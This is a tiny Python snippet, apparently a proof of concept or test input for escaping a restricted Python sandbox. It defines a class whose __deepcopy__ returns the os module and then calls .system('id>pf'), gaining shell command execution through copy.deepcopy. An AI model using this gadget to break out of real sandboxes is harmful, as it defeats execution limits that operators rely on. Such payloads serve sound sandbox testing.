import copy, os
class C:
    def __deepcopy__(self, memo):
        return os
copy.deepcopy(C()).system("id>pf")
